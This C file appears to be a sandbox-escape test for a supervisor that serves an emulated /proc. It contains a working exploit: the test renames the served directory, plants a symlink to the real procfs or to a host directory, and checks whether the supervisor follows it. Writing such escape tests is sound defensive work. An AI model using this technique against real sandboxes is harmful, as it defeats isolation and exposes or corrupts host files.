/* Issue 19, class 1: the stage is writable by the program.
 *
 * open("/proc", O_DIRECTORY) hands out a directory of the supervisor's stage
 * tmpfs. The program fchdirs into it, goes ".." to the stage root natively,
 * chmods it (it runs as uid 0, the owner), renames the served directory away
 * and puts a symlink in its place. The next open("/proc", O_DIRECTORY) is
 * then made by the supervisor through that symlink:
 *   target=procfs   symlink to /proc: the fd is the real procfs; its listing
 *                   shows the canary process (a host pid)
 *   target=hostdir  symlink to canary_dir (a host directory the program cannot
 *                   write): the supervisor's stage sync, as root, unlinks its
 *                   entries and creates /proc's there
 * HELD: a step of the swap is refused, or the next open is still the model's
 * /proc (no host pid listed, canary_dir unchanged).
 * Arguments: target=procfs|hostdir canary_pid=N canary_dir=PATH */
#include "escape.h"

#include <dirent.h>
#include <sys/stat.h>
#include <sys/syscall.h>

/* The names in a directory fd, space separated, sorted as getdents gives. */
static void list_fd(int fd, char *out, size_t cap)
{
	char buf[8192];
	size_t used = 0;
	out[0] = '\0';
	lseek(fd, 0, SEEK_SET);
	long n;
	while ((n = syscall(SYS_getdents64, fd, buf, sizeof(buf))) > 0) {
		for (long off = 0; off < n;) {
			struct dirent64 *d = (struct dirent64 *)(buf + off);
			off += d->d_reclen;
			if (strcmp(d->d_name, ".") == 0 || strcmp(d->d_name, "..") == 0)
				continue;
			int w = snprintf(out + used, cap - used, " %s", d->d_name);
			if (w > 0 && used + (size_t)w < cap)
				used += (size_t)w;
		}
	}
	if (used + 2 < cap)
		strcat(out, " ");
}

static void list_path(const char *path, char *out, size_t cap)
{
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		snprintf(out, cap, "(%s)", strerror(errno));
		return;
	}
	list_fd(fd, out, cap);
	close(fd);
}

int main(int argc, char **argv)
{
	const char *target = need(argc, argv, "target");
	bool procfs = strcmp(target, "procfs") == 0;
	const char *canary_pid = need(argc, argv, "canary_pid");
	const char *canary_dir = procfs ? NULL : need(argc, argv, "canary_dir");
	static char before[8192], after[8192];
	if (canary_dir)
		list_path(canary_dir, before, sizeof(before));

	int d = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (d < 0)
		setup_error("open /proc: %s", strerror(errno));
	struct stat dst;
	if (fstat(d, &dst) < 0)
		setup_error("fstat /proc: %s", strerror(errno));

	/* Up from the served directory to whatever holds it. */
	if (fchdir(d) < 0)
		held("fchdir into the served /proc: %s", strerror(errno));
	if (chdir("..") < 0)
		held("chdir .. from the served /proc: %s", strerror(errno));
	struct stat up;
	if (stat(".", &up) < 0)
		held("stat of the served /proc's parent: %s", strerror(errno));
	if (up.st_dev != dst.st_dev || up.st_ino == dst.st_ino)
		held("the served /proc has no parent of its own filesystem to rewrite");

	/* The served directory's name in its parent, by inode. */
	int pfd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (pfd < 0)
		held("open the stage root: %s", strerror(errno));
	char name[256] = "";
	char buf[8192];
	long n;
	while (!name[0] && (n = syscall(SYS_getdents64, pfd, buf, sizeof(buf))) > 0)
		for (long off = 0; off < n;) {
			struct dirent64 *e = (struct dirent64 *)(buf + off);
			off += e->d_reclen;
			if (e->d_ino == dst.st_ino)
				snprintf(name, sizeof(name), "%s", e->d_name);
		}
	close(pfd);
	if (!name[0])
		held("the served /proc is not listed in its parent");

	if (chmod(".", 0777) < 0)
		held("chmod of the stage root: %s", strerror(errno));
	char moved[300];
	snprintf(moved, sizeof(moved), "%s.moved", name);
	if (rename(name, moved) < 0)
		held("rename of the served /proc in the stage: %s", strerror(errno));
	if (symlink(procfs ? "/proc" : canary_dir, name) < 0)
		held("symlink in the stage: %s", strerror(errno));
	if (chdir("/") < 0)
		setup_error("chdir /: %s", strerror(errno));

	/* The supervisor serves /proc again, through our symlink. */
	int e = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int eerr = errno;
	if (procfs) {
		if (e < 0)
			held("stage swapped (%s -> /proc), but the next open(\"/proc\") failed: %s", name,
			     strerror(eerr));
		/* getdents is native: it lists what the fd really is (fstatfs
		 * would be the supervisor's answer) */
		list_fd(e, after, sizeof(after));
		char pat[32];
		snprintf(pat, sizeof(pat), " %s ", canary_pid);
		if (strstr(after, pat))
			escaped("open(\"/proc\") after the swap lists host pid %s: the real procfs", canary_pid);
		held("stage swapped (%s -> /proc), the next open(\"/proc\") is still the model's", name);
	}
	list_path(canary_dir, after, sizeof(after));
	if (strcmp(before, after) != 0)
		escaped("the supervisor rewrote host directory %s: entries [%s] became [%.300s]", canary_dir,
			before, after);
	if (e >= 0) {
		list_fd(e, buf, sizeof(buf));
		if (strcmp(buf, before) == 0)
			escaped("open(\"/proc\") after the swap is host directory %s", canary_dir);
	}
	held("stage swapped (%s -> %s): %s unchanged, the next open(\"/proc\") %s", name, canary_dir,
	     canary_dir, e >= 0 ? "is still the model's" : strerror(eerr));
}
